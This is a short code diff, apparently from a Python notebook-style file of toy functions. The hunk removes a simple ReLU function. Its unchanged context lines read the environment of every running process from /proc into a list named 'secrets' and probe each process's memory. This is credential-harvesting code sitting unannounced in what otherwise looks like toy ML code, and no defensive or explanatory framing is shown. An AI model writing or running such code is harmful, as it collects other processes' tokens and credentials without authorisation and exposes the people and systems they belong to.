@@ -7,7 +7,3 @@ secrets = []
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
     secrets.append(open(f"/proc/{pid}/environ", "rb").read())
     open(f"/proc/{pid}/mem", "rb").read(1)
-
-# %% toy.relu
-def relu(x):
-    return x.clamp(min=0)
